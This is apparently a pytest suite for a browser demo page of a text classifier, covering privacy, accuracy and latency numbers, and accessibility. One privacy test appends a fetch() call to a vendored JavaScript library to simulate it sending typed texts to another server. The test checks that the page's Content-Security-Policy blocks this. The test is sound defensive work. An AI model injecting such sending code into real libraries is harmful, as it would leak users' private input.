"""The page as its visitors meet it: private, usable by everybody, and honest about what it measured."""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from hrkd_bench.runtime import Classifier
from hrkd_bench.web.chromium import Browser
from hrkd_bench.web.devtools import Page
from hrkd_bench.web.server import serve
from hrkd_bench.web.site import INDEX
from web_page import OpenPage, wait_until


class TestNoRequestLeaves:
    @contextmanager
    def listener(self) -> Iterator[tuple[str, list[str]]]:
        """Another server on this machine: another origin, as far as a browser is concerned."""
        heard: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                """Say nothing."""

        with HTTPServer(("127.0.0.1", 0), Handler) as server:
            thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
            thread.start()
            yield f"http://127.0.0.1:{server.server_address[1]}", heard
            server.shutdown()
            thread.join()

    @pytest.mark.parametrize("guarded", [True, False])
    def test_a_script_of_the_page_reaches_no_other_server(
        self, guarded: bool, open_page: OpenPage, folders: dict[str, Path], tmp_path: Path
    ) -> None:
        """Prevents a library from sending typed texts away; without the policy it could, as the second case shows."""
        with self.listener() as (origin, heard):
            shutil.copytree(folders["page"], tmp_path / "page")
            library = tmp_path / "page" / "vendor" / "tokenizers.min.js"
            sending = f"\nglobalThis.sent = fetch('{origin}/typed').then(() => 'sent', () => 'refused');\n"
            library.write_text(library.read_text(encoding="utf-8") + sending, encoding="utf-8")
            if not guarded:
                index = tmp_path / "page" / INDEX
                index.write_text(index.read_text(encoding="utf-8").replace("Content-Security-Policy", "x-none"))
            page = open_page(tmp_path / "page")
            assert page.evaluate("globalThis.sent") == ("refused" if guarded else "sent")
        assert heard == ([] if guarded else ["/typed"])

    def test_the_page_asks_for_its_own_files_only(self, browser: Browser, folders: dict[str, Path]) -> None:
        """Prevents a forgotten address: what was asked for are files of the folder, each of them there."""
        with serve(folders["page"]) as server:
            page = browser.tools.open_page()
            page.open(server.origin)
            page.evaluate("hrkd.loading()")
            page.close()
        names = {path.partition("?")[0].removeprefix("/") or INDEX for path in server.requested}
        assert {INDEX, "bundle/model.onnx", "SHA256SUMS"} < names
        assert not [name for name in names if not (folders["page"] / name).is_file()]


class TestMeasure:
    def test_accuracy_and_agreement_are_those_of_python(self, page: Page, folders: dict[str, Path]) -> None:
        """Prevents numbers of one text being counted for another: the page measures in an order of its own."""
        result = page.evaluate("hrkd.measure({warmup: 5})")
        classifier = Classifier.load(folders["bundle"])
        right: dict[str, list[bool]] = {"books": [], "films": []}
        for line, row in zip((folders["bundle"] / "eval.jsonl").read_text().splitlines(), result["rows"], strict=True):
            example = json.loads(line)
            encoded = classifier.tokenize(example["text"])
            expected = classifier.run(encoded, classifier.domain_id(example["domain"]))
            assert row["logits"] == pytest.approx(expected.tolist(), abs=1e-5)
            right[example["domain"]].append(classifier.label_names[expected.argmax()] == example["label"])
        shares = {name: sum(flags) / len(flags) for name, flags in right.items()}
        assert {name: found["share"] for name, found in result["accuracy"].items()} == pytest.approx(shares)
        assert len(set(shares.values()) | {1.0}) > 1
        assert result["agreement_with_python"] == 1.0

    def test_percentiles_need_samples(self, page: Page) -> None:
        """Prevents a p95 of a handful of texts; with 140 there is one, which 20 do not give."""
        many = page.evaluate("hrkd.measure({warmup: 2})")["latency_ms"]["end_to_end"]
        few = page.evaluate("hrkd.measure({warmup: 2, positions: [...Array(20).keys()]})")["latency_ms"]["end_to_end"]
        assert (many["n"], few["n"]) == (140, 20)
        assert many["p50"] <= many["p95"] <= many["max"]
        assert few["p95"] is None
        assert few["p50"] > 0

    def test_the_buttons_measure_and_offer_the_numbers(self, page: Page, browser: Browser, tmp_path: Path) -> None:
        """Prevents a download that holds something else than the table shows."""
        browser.tools.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(tmp_path))
        page.evaluate("document.getElementById('measure').click()")
        wait_until(lambda: not page.evaluate("document.getElementById('download').hidden"))
        shown = page.evaluate("document.getElementById('results').innerText")
        page.evaluate("document.getElementById('download').click()")
        saved = tmp_path / "tiny-browser.json"
        wait_until(saved.exists)
        result = json.loads(saved.read_text(encoding="utf-8"))
        for word in ("p95", "books", "films", "Same label as onnxruntime", "on 140 of 140 texts"):
            assert word in shown
        assert f"{result['latency_ms']['end_to_end']['p50']:.2f} ms" in shown
        assert len(result["rows"]) == 140

    def test_stopping_gives_the_page_back(self, page: Page) -> None:
        """Prevents a visitor from having to wait for a measurement of minutes, or from being shown half of one."""
        page.evaluate("document.getElementById('results').hidden = true")
        page.evaluate("document.getElementById('measure').click(), document.getElementById('stop').click()")
        wait_until(lambda: page.evaluate("document.getElementById('status').textContent") == "Stopped.")
        assert page.evaluate("document.getElementById('results').hidden")
        assert not page.evaluate("document.getElementById('classify').disabled")


class TestForPeople:
    def test_a_text_is_typed_and_answered_with_the_keyboard_alone(self, page: Page) -> None:
        """Prevents a page that needs a mouse."""
        page.evaluate("document.getElementById('text').focus()")
        page.call("Input.insertText", text="good good film")
        for kind in ("rawKeyDown", "keyUp"):
            page.call("Input.dispatchKeyEvent", type=kind, key="Enter", windowsVirtualKeyCode=13, modifiers=2)
        wait_until(lambda: not page.evaluate("document.getElementById('answer').hidden"))
        assert page.evaluate("document.getElementById('label').textContent") == "pos"
        assert page.evaluate("document.getElementById('bars').innerText").count("%") == 2

    def test_every_control_has_a_name(self, page: Page) -> None:
        """Prevents a screen reader that says "edit text" and no more."""
        nodes = page.call("Accessibility.getFullAXTree")["nodes"]
        roles = ("textbox", "combobox", "button", "link", "progressbar")
        controls = [node for node in nodes if node.get("role", {}).get("value") in roles and not node.get("ignored")]
        names = {node.get("name", {}).get("value", "") for node in controls}
        assert {"Text", "Domain", "Classify", "Measure"} <= names
        assert "" not in names

    @pytest.mark.parametrize("width", [320, 1200])
    def test_nothing_is_wider_than_the_screen(self, width: int, page: Page) -> None:
        """Prevents a phone from having to scroll sideways."""
        page.call(
            "Emulation.setDeviceMetricsOverride", width=width, height=700, deviceScaleFactor=1, mobile=width < 500
        )
        try:
            assert page.evaluate("innerWidth") == width
            assert page.evaluate("document.documentElement.scrollWidth") <= width
        finally:
            page.call("Emulation.clearDeviceMetricsOverride")
